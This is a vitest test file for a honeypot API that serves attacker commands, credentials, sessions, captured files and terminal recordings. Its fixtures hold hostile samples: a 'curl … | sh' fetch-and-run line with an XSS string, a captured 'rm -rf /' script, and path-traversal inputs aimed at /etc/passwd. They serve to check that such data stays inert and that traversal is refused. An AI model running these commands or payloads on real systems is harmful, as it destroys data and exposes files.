import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { type IncomingHttpHeaders, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi } from '../../../test/support/api.js';
import { DIALECTS } from '../../../test/support/databases.js';
import { COUNT_AGE_HEADER } from '../count-cache.js';

const A = { uuid: '11111111-1111-4111-8111-111111111111', ip: '203.0.113.9' };
const B = { uuid: '22222222-2222-4222-8222-222222222222', ip: '198.51.100.7' };
const UNKNOWN = '33333333-3333-4333-8333-333333333333';
const ts = (s: number) => `2026-05-10T12:00:${String(s).padStart(2, '0')}.000000Z`;
const SID = '0f8e1c2a-3b4d-4e5f-8a9b-0c1d2e3f4a5b';
const STORED = '2026-05-10T120010Z_3a7bd3e2360a_x.sh';
const HOSTILE_COMMAND = '<script>alert(1)</script>; curl http://198.51.100.1/x.sh | sh';

/** Files the routes read: a captures and a recordings directory, and a secret beside them. */
function makeFiles() {
  const root = mkdtempSync(join(tmpdir(), 'decnet-files-'));
  const capturesDir = join(root, 'captures');
  const recordingsDir = join(root, 'recordings');
  mkdirSync(join(capturesDir, 'decky-01'), { recursive: true });
  mkdirSync(join(recordingsDir, 'decky-01'), { recursive: true });
  writeFileSync(join(root, 'secret.txt'), 'operator secret');
  writeFileSync(join(capturesDir, 'decky-01', STORED), '#!/bin/sh\nrm -rf / # <html>\n');
  writeFileSync(join(capturesDir, 'decky-01', 'empty.bin'), '');
  mkdirSync(join(capturesDir, 'decky-01', 'a-directory'));
  symlinkSync(join(root, 'secret.txt'), join(capturesDir, 'decky-01', 'link-out'));
  symlinkSync('/etc/passwd', join(capturesDir, 'decky-01', 'passwd'));
  const cast = [
    JSON.stringify({
      version: 2,
      width: 80,
      height: 24,
      timestamp: 1778414400,
      env: { SHELL: '/bin/bash', TERM: 'xterm' },
    }),
    ...Array.from({ length: 5 }, (_, i) =>
      JSON.stringify([i * 0.5, i % 2 ? 'i' : 'o', `<b>out ${i}</b>\r\n`]),
    ),
  ].join('\n');
  writeFileSync(join(recordingsDir, 'decky-01', `${SID}.cast`), `${cast}\n`);
  writeFileSync(join(recordingsDir, 'decky-01', 'garbage.cast'), 'not a recording\n[0,"o","x"]\n');
  symlinkSync(join(root, 'secret.txt'), join(recordingsDir, 'decky-01', 'sneaky.cast'));
  return { root, capturesDir, recordingsDir };
}

async function seed(api: TestApi): Promise<void> {
  const { db } = api.database;
  const attacker = (a: typeof A, events: number) => ({
    uuid: a.uuid,
    ip: a.ip,
    first_seen: ts(0),
    last_seen: ts(30),
    event_count: events,
    services: ['ftp', 'smtp', 'ssh'],
    deckies: ['decky-01'],
    service_count: 3,
    decky_count: 1,
    updated_at: ts(30),
  });
  await db
    .insertInto('attackers')
    .values([attacker(A, 9), attacker(B, 1)])
    .execute();

  const log = (
    ip: string,
    s: number,
    service: string,
    eventType: string,
    fields: Record<string, string> = {},
  ) => ({
    timestamp: ts(s),
    received_at: ts(s),
    decky: 'decky-01',
    service,
    event_type: eventType,
    attacker_ip: ip,
    severity: 6,
    fields,
    msg: null,
    raw_line: `line ${s}`,
  });
  await db
    .insertInto('logs')
    .values([
      log(A.ip, 1, 'ssh', 'connect'),
      log(A.ip, 2, 'ssh', 'connect'),
      log(A.ip, 3, 'ssh', 'connect'),
      log(A.ip, 4, 'ssh', 'auth_attempt'),
      log(A.ip, 5, 'ssh', 'auth_attempt'),
      log(A.ip, 6, 'ftp', 'auth_attempt'),
      log(A.ip, 10, 'ssh', 'file_captured', {
        stored_as: STORED,
        sha256: 'ab'.repeat(32),
        size: '27',
        orig_path: '/tmp/<x>.sh',
        src_ip: A.ip,
        sid: SID,
      }),
      log(A.ip, 20, 'smtp', 'message_stored', {
        stored_as: '2026-05-10T120020Z_0123456789ab_message.eml',
        sha256: 'cd'.repeat(32),
        size: '1200',
        src_ip: A.ip,
        subject: 'Invoice <urgent>',
        mail_from: 'a@example.net',
      }),
      log(A.ip, 21, 'ssh', 'command', { cmd: 'id' }),
      log(B.ip, 22, 'ssh', 'file_captured', {
        stored_as: 'other',
        sha256: 'ef'.repeat(32),
        size: '1',
        src_ip: B.ip,
      }),
    ])
    .execute();

  const command = (ip: string, s: number, sessionId: string, text: string, service = 'ssh') => ({
    log_id: 0,
    timestamp: ts(s),
    attacker_ip: ip,
    decky: 'decky-01',
    service,
    session_id: sessionId,
    command: text,
    uid: '0',
    username: 'root',
    cwd: '/root',
  });
  await db
    .insertInto('commands')
    .values([
      command(A.ip, 11, SID, 'uname -a'),
      command(A.ip, 12, SID, 'cat /etc/passwd'),
      command(A.ip, 13, SID, HOSTILE_COMMAND),
      command(A.ip, 14, 'other-session', 'ls', 'telnet'),
      command(A.ip, 15, 'other-session', 'exit', 'telnet'),
      command(B.ip, 16, 'b-session', 'whoami'),
    ])
    .execute();

  const credential = (ip: string, n: number, service: string, principal: string, attempts: number) => ({
    attacker_ip: ip,
    decky: 'decky-01',
    service,
    principal,
    credential_key: `key-${ip}-${n}`,
    secret_kind: 'password',
    secret_sha256: String(n).repeat(64).slice(0, 64),
    secret_b64: Buffer.from(`pass${n}`).toString('base64'),
    secret_printable: `pass${n}`,
    outcome: 'failure',
    first_seen: ts(n),
    last_seen: ts(n),
    attempt_count: attempts,
  });
  await db
    .insertInto('credentials')
    .values([
      credential(A.ip, 4, 'ssh', 'root', 3),
      credential(A.ip, 5, 'ssh', 'admin', 1),
      credential(A.ip, 6, 'ftp', 'root', 2),
      credential(B.ip, 7, 'ssh', 'pi', 1),
    ])
    .execute();

  const session = (ip: string, id: string, ended: number, service: string) => ({
    id,
    attacker_ip: ip,
    decky: 'decky-01',
    service,
    started_at: ts(ended - 5),
    ended_at: ts(ended),
    duration_s: 5,
    bytes: 400,
    command_count: 3,
    recording: null,
    log_id: 0,
  });
  await db
    .insertInto('sessions')
    .values([
      session(A.ip, SID, 25, 'ssh'),
      session(A.ip, 'other-session', 28, 'telnet'),
      session(B.ip, 'b-session', 29, 'ssh'),
    ])
    .execute();

  const bounty = (s: number, type: string, value: string) => ({
    timestamp: ts(s),
    decky: 'decky-01',
    service: 'ssh',
    attacker_ip: A.ip,
    bounty_type: 'fingerprint',
    fingerprint_type: type,
    payload: { fingerprint_type: type, value },
    payload_key: `${type}-${value}`,
  });
  await db
    .insertInto('bounties')
    .values([bounty(1, 'hassh', 'old'), bounty(2, 'hassh', 'new'), bounty(3, 'ja3', 'j')])
    .execute();
}

describe.each(DIALECTS)('attacker detail routes on %s', (dialect) => {
  let api: TestApi;
  let files: ReturnType<typeof makeFiles>;
  let viewer: string;

  beforeAll(async () => {
    files = makeFiles();
    api = await startTestApi({ dialect, files });
    await seed(api);
    viewer = await api.viewerToken();
  });
  afterAll(async () => {
    await api.close();
    rmSync(files.root, { recursive: true, force: true });
  });

  const get = (url: string, token: string | null = viewer) =>
    api.app.inject({
      method: 'GET',
      url: `/api/v1${url}`,
      headers: token ? { authorization: `Bearer ${token}` } : {},
    });

  it('answers the attacker with a behaviour summary of its logs, credentials and fingerprints', async () => {
    const res = await get(`/attackers/${A.uuid}`);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ uuid: A.uuid, ip: A.ip, event_count: 9, services: ['ftp', 'smtp', 'ssh'] });
    expect(body.behaviour.activity[0]).toEqual({ service: 'ssh', event_type: 'connect', count: 3 });
    expect(body.behaviour.activity).toContainEqual({ service: 'ssh', event_type: 'auth_attempt', count: 2 });
    expect(body.behaviour.logs_examined).toBe(9);
    expect(body.behaviour.complete).toBe(true);
    expect(body.behaviour.principals).toEqual([
      { principal: 'root', attempts: 5, services: ['ftp', 'ssh'] },
      { principal: 'admin', attempts: 1, services: ['ssh'] },
    ]);
    const fingerprints = Object.fromEntries(
      body.behaviour.fingerprints.map((f: { fingerprint_type: string; payload: { value: string } }) => [
        f.fingerprint_type,
        f.payload.value,
      ]),
    );
    expect(fingerprints).toEqual({ hassh: 'new', ja3: 'j' });
  });

  it('answers 404 for an unknown attacker and 400 for a malformed uuid, on every attacker route', async () => {
    for (const suffix of ['', '/commands', '/credentials', '/sessions', '/transcripts', '/artifacts']) {
      const missing = await get(`/attackers/${UNKNOWN}${suffix}`);
      expect(missing.statusCode).toBe(404);
      expect(missing.json()).toMatchObject({ code: 'attacker_not_found' });
      const malformed = await get(`/attackers/not-a-uuid${suffix}`);
      expect(malformed.statusCode).toBe(400);
      expect(malformed.json()).toMatchObject({ code: 'invalid_request' });
    }
  });

  it('answers 401 without a token, before looking at the parameters', async () => {
    for (const url of [
      `/attackers/${A.uuid}`,
      `/attackers/not-a-uuid/commands`,
      `/artifacts/decky-01/${STORED}`,
      '/artifacts/..%2F..%2Fetc/passwd',
      `/transcripts/decky-01/${SID}`,
    ]) {
      expect((await get(url, null)).statusCode).toBe(401);
    }
  });

  it('pages commands newest first, with the attacker-typed text as JSON data', async () => {
    const res = await get(`/attackers/${A.uuid}/commands?limit=2&offset=1`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers[COUNT_AGE_HEADER]).toBeDefined();
    const body = res.json();
    expect(body).toMatchObject({ total: 5, limit: 2, offset: 1 });
    expect(body.data.map((c: { command: string }) => c.command)).toEqual(['ls', HOSTILE_COMMAND]);
    expect(body.data[1]).toMatchObject({
      session_id: SID,
      decky: 'decky-01',
      service: 'ssh',
      username: 'root',
    });
  });

  it.each([
    ['session_id', `session_id=${SID}`, 3],
    ['service', 'service=telnet', 2],
    ['decky', 'decky=decky-02', 0],
  ])('filters commands by %s', async (_name, query, total) => {
    const body = (await get(`/attackers/${A.uuid}/commands?${query}`)).json();
    expect(body.total).toBe(total);
    expect(body.data).toHaveLength(total);
  });

  it('pages credentials without their deduplication key, and only the attacker’s', async () => {
    const body = (await get(`/attackers/${A.uuid}/credentials?limit=2`)).json();
    expect(body.total).toBe(3);
    expect(body.data.map((c: { principal: string }) => c.principal)).toEqual(['root', 'admin']);
    expect(body.data[0]).toMatchObject({ service: 'ftp', secret_printable: 'pass6', attempt_count: 2 });
    expect(body.data[0]).not.toHaveProperty('credential_key');
    expect(body.data[0]).not.toHaveProperty('attacker_ip');
  });

  it('lists sessions, latest ended first, saying which have a recording; /transcripts is the same list', async () => {
    const sessions = await get(`/attackers/${A.uuid}/sessions`);
    expect(sessions.statusCode).toBe(200);
    const body = sessions.json();
    expect(body.total).toBe(2);
    expect(body.data).toEqual([
      expect.objectContaining({ id: 'other-session', service: 'telnet', has_recording: false }),
      expect.objectContaining({
        id: SID,
        service: 'ssh',
        duration_s: 5,
        bytes: 400,
        truncated: false,
        has_recording: true,
      }),
    ]);
    expect((await get(`/attackers/${A.uuid}/transcripts`)).json()).toEqual(body);
  });

  it('lists the files and mails the attacker left, newest first', async () => {
    const body = (await get(`/attackers/${A.uuid}/artifacts`)).json();
    expect(body.total).toBe(2);
    expect(body.data).toEqual([
      expect.objectContaining({
        kind: 'mail',
        service: 'smtp',
        stored_as: '2026-05-10T120020Z_0123456789ab_message.eml',
        size: 1200,
        subject: 'Invoice <urgent>',
        mail_from: 'a@example.net',
        orig_path: null,
      }),
      expect.objectContaining({
        kind: 'file',
        decky: 'decky-01',
        service: 'ssh',
        stored_as: STORED,
        size: 27,
        sha256: 'ab'.repeat(32),
        orig_path: '/tmp/<x>.sh',
        session_id: SID,
      }),
    ]);
    const paged = (await get(`/attackers/${A.uuid}/artifacts?limit=1&offset=1`)).json();
    expect(paged.data.map((a: { kind: string }) => a.kind)).toEqual(['file']);
  });

  it('rejects paging outside its bounds', async () => {
    expect((await get(`/attackers/${A.uuid}/commands?limit=0`)).statusCode).toBe(400);
    expect((await get(`/attackers/${A.uuid}/commands?limit=1001`)).statusCode).toBe(400);
    expect((await get(`/attackers/${A.uuid}/sessions?offset=-1`)).statusCode).toBe(400);
  });
});

describe('captured files and recordings', () => {
  let api: TestApi;
  let files: ReturnType<typeof makeFiles>;
  let admin: string;
  let viewer: string;

  beforeAll(async () => {
    files = makeFiles();
    api = await startTestApi({ files });
    await api.app.listen({ port: 0, host: '127.0.0.1' });
    admin = await api.adminToken();
    viewer = await api.viewerToken();
  });
  afterAll(async () => {
    await api.close();
    rmSync(files.root, { recursive: true, force: true });
  });

  /**
   * Over a real socket, with the path sent byte for byte: `app.inject` parses URLs the WHATWG way and
   * would resolve `%2e%2e` before the router saw it, which an HTTP client need not do.
   */
  const get = (url: string, token: string | null = admin) =>
    new Promise<{ statusCode: number; headers: IncomingHttpHeaders; body: string; json(): unknown }>(
      (resolve, reject) => {
        const { port } = api.app.server.address() as AddressInfo;
        const req = request(
          {
            host: '127.0.0.1',
            port,
            path: `/api/v1${url}`,
            headers: token ? { authorization: `Bearer ${token}` } : {},
          },
          (res) => {
            const chunks: Buffer[] = [];
            res.on('data', (c: Buffer) => chunks.push(c));
            res.on('end', () => {
              const body = Buffer.concat(chunks).toString('utf8');
              resolve({
                statusCode: res.statusCode!,
                headers: res.headers,
                body,
                json: () => JSON.parse(body),
              });
            });
          },
        );
        req.on('error', reject);
        req.end();
      },
    );

  it('downloads a captured file as an attachment that is never rendered', async () => {
    const res = await get(`/artifacts/decky-01/${STORED}`);
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe('#!/bin/sh\nrm -rf / # <html>\n');
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="2026-05-10T120010Z_3a7bd3e2360a_x.sh"',
    );
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-length']).toBe('28');
    expect(res.headers['content-security-policy']).toContain("default-src 'none'");
  });

  it('downloads an empty file', async () => {
    const res = await get('/artifacts/decky-01/empty.bin');
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe('');
  });

  it('keeps downloads for admins: a viewer gets 403', async () => {
    const res = await get(`/artifacts/decky-01/${STORED}`, viewer);
    expect(res.statusCode).toBe(403);
    expect(res.json()).toMatchObject({ code: 'forbidden' });
    expect((await get(`/transcripts/decky-01/${SID}`, viewer)).statusCode).toBe(403);
  });

  it.each([
    ['an absent file', '/artifacts/decky-01/nothing-here', 404],
    ['an absent decky', `/artifacts/decky-99/${STORED}`, 404],
    ['a directory', '/artifacts/decky-01/a-directory', 404],
    ['a symlink to a file outside the captures', '/artifacts/decky-01/link-out', 404],
    ['a symlink to /etc/passwd', '/artifacts/decky-01/passwd', 404],
    ['an encoded ../', '/artifacts/decky-01/..%2F..%2Fsecret.txt', 400],
    ['an encoded %2e%2e', '/artifacts/decky-01/%2e%2e', 400],
    ['an encoded %2e%2e in the decky', '/artifacts/%2e%2e/secret.txt', 400],
    ['a name with ..', '/artifacts/decky-01/x..y', 400],
    ['a dot file', '/artifacts/decky-01/.hidden', 400],
    ['an absolute path', '/artifacts/decky-01/%2Fetc%2Fpasswd', 400],
    ['a NUL byte', '/artifacts/decky-01/x%00y', 400],
    ['a backslash', '/artifacts/decky-01/..%5C..%5Csecret.txt', 400],
  ])('refuses %s', async (_name, url, status) => {
    const res = await get(url);
    expect(res.statusCode).toBe(status);
    expect(res.body).not.toContain('operator secret');
    expect(res.body).not.toContain('root:');
    expect(res.headers['content-type']).toMatch(/^application\/json/);
  });

  it('never leaves the captures directory for a raw ../ path', async () => {
    for (const url of [
      '/artifacts/decky-01/../../secret.txt',
      '/artifacts/../secret.txt',
      '/artifacts/decky-01/..',
      '/transcripts/decky-01/../../secret',
    ]) {
      const res = await get(url);
      expect([400, 404]).toContain(res.statusCode);
      expect(res.body).not.toContain('operator secret');
    }
  });

  it('pages the events of a recording as JSON data', async () => {
    const res = await get(`/transcripts/decky-01/${SID}?limit=2&offset=1`);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      header: {
        version: 2,
        width: 80,
        height: 24,
        timestamp: 1778414400,
        env: { SHELL: '/bin/bash', TERM: 'xterm' },
      },
      total: 5,
      limit: 2,
      offset: 1,
      truncated: false,
      data: [
        [0.5, 'i', '<b>out 1</b>\r\n'],
        [1, 'o', '<b>out 2</b>\r\n'],
      ],
    });
    expect(res.headers['content-type']).toMatch(/^application\/json/);
  });

  it.each([
    ['an absent recording', `/transcripts/decky-01/${'a'.repeat(36)}`, 404, 'transcript_not_found'],
    ['a symlink leading out', '/transcripts/decky-01/sneaky', 404, 'transcript_not_found'],
    ['a file that is not a recording', '/transcripts/decky-01/garbage', 422, 'invalid_recording'],
    ['an encoded ../', '/transcripts/decky-01/..%2F..%2Fsecret', 400, 'invalid_request'],
    ['a sid of ..', '/transcripts/decky-01/%2e%2e', 400, 'invalid_request'],
    ['an over-long sid', `/transcripts/decky-01/${'a'.repeat(65)}`, 400, 'invalid_request'],
  ])('answers %s (%s) with %i', async (_name, url, status, code) => {
    const res = await get(url);
    expect(res.statusCode).toBe(status);
    expect(res.json()).toMatchObject({ code });
    expect(res.body).not.toContain('operator secret');
  });
});
